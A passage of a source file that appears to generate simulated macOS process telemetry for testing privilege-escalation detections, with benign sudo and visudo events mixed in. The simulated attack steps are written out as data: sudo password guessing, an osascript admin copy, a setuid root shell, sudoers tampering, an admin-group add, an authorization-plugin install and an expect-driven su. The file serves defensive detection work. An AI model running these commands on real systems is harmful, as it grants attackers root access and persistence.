    'Shell Command Run With Administrator Privileges Through AppleScript': 1,
    'File In Temporary Or Shared Folder Given To Root': 1,
    'Setuid Or Setgid Bit Set Outside System Paths': 1,
    'Sudoers Modified Outside visudo': 1,
    'User Added To The Admin Group': 1,
    'User Added To The Admin Group From The Command Line': 1,
    'Deprecated AuthorizationExecuteWithPrivileges Used By Unsigned Program': 1,
    'Authorization Plugin Installed': 1,
    'Authorization Database Modified With security': 1,
    'Shell Spawned By Unsigned Binary From Staging Location': 1,
    'Su To Root Driven By Script Or Unsigned Process': 1,
  },
  build(w) {
    const d = desktop(w);
    // Benign: the user updates the OS with sudo
    const s0 = w.spawn(d.shell, '/usr/bin/sudo', ['sudo', 'softwareupdate', '-l']);
    w.sudo(s0, { success: true, command: '/usr/sbin/softwareupdate -l' });
    w.exit(s0);
    run(w, d.shell, '/bin/chmod', ['chmod', '755', `${w.home}/bin/backup.sh`]);
    w.pause(10000, 20000);
    // Scripted password guessing from an implant's shell
    const agent = implant(w, '/tmp/.agent');
    const sh = w.spawn(agent, '/bin/sh', ['/bin/sh'], { fds: pipeFds(true, true), tty: null });
    for (let i = 0; i < 5; i++) {
      const s = w.spawn(sh, '/usr/bin/sudo', ['sudo', '-S', '-k', 'id'], { fds: pipeFds(true, true) });
      w.pause(2000, 2600);
      w.sudo(s, { success: false, command: '/usr/bin/id' });
      w.exit(s, 256);
      w.pause(300, 800);
    }
    const s1 = w.spawn(sh, '/usr/bin/sudo', ['sudo', '-S', '/tmp/.agent', '--install'], { fds: pipeFds(true, true) });
    w.sudo(s1, { success: true, command: '/tmp/.agent --install' });
    w.exit(s1);
    run(
      w,
      sh,
      '/usr/bin/osascript',
      [
        'osascript',
        '-e',
        'do shell script "cp /tmp/.agent /Library/PrivilegedHelperTools/com.apple.helper" with administrator privileges',
      ],
      { fds: pipeFds(true, true) },
    );
    const chown = run(w, sh, '/usr/sbin/chown', ['chown', 'root:wheel', '/tmp/.rootsh'], {
      keep: true,
      euid: ROOT,
      fds: pipeFds(true, true),
    });
    w.setowner(chown, '/private/tmp/.rootsh', 0, 0);
    w.exit(chown);
    run(w, sh, '/bin/chmod', ['chmod', '4755', '/tmp/.rootsh'], { euid: ROOT, fds: pipeFds(true, true) });
    const tee = run(w, sh, '/usr/bin/tee', ['tee', '-a', '/etc/sudoers'], {
      keep: true,
      euid: ROOT,
      fds: pipeFds(true, true),
    });
    w.open(tee, '/private/etc/sudoers', FFLAG.FWRITE | FFLAG.O_APPEND);
    w.write(tee, '/private/etc/sudoers', 36);
    w.exit(tee);
    const dseg = run(
      w,
      sh,
      '/usr/sbin/dseditgroup',
      ['dseditgroup', '-o', 'edit', '-a', 'support', '-t', 'user', 'admin'],
      { keep: true, euid: ROOT, fds: pipeFds(true, true) },
    );
    w.odGroupAdd(dseg, 'admin', 'support');
    w.exit(dseg);
    const cp = run(w, sh, '/bin/cp', ['cp', '-R', '/tmp/.a/Auth.bundle', '/Library/Security/SecurityAgentPlugins/'], {
      keep: true,
      euid: ROOT,
      fds: pipeFds(true, true),
    });
    w.create(cp, '/Library/Security/SecurityAgentPlugins/Auth.bundle', 'dir');
    w.exit(cp);
    run(w, sh, '/usr/bin/security', ['security', 'authorizationdb', 'write', 'system.login.console', 'allow'], {
      euid: ROOT,
      fds: pipeFds(true, true),
    });
    // expect replays the phished password into su
    const exp = w.spawn(
      sh,
      '/usr/bin/expect',
      ['expect', '-c', 'spawn su -; expect "Password:"; send "hunter2\\r"; interact'],
      { fds: pipeFds(true, true) },
    );
    const su = w.spawn(exp, '/usr/bin/su', ['su', '-']);
    w.pause(800, 1500);
    w.su(su, { success: true });
    w.exit(su);
    w.exit(exp);
    w.exit(sh);
    w.pause(10000, 15000);
    // An unsigned "installer" from Downloads asks for admin rights the old way
    const inst = w.existing(`${w.home}/Downloads/Installer`, { tty: null }, d.finder);
    const tramp = w.spawn(
      inst,
      '/usr/libexec/security_authtrampoline',
      ['/usr/libexec/security_authtrampoline', '/tmp/.a/install.sh', 'auth 3'],
      { euid: ROOT },
    );
    w.exit(tramp);
    // Benign: visudo
    const visudo = w.spawn(d.shell, '/usr/sbin/visudo', ['visudo'], { euid: ROOT });
    w.open(visudo, '/private/etc/sudoers', FFLAG.FWRITE);
    w.write(visudo, '/private/etc/sudoers', 1800);
    w.exit(visudo);
  },
};

export const TECHNIQUE_SCENARIOS: readonly Scenario[] = [
  persistence,
  credentialAccess,
  defenseEvasion,
  discovery,
  execution,
  collection,
  commandAndControl,
  privilegeEscalation,
];
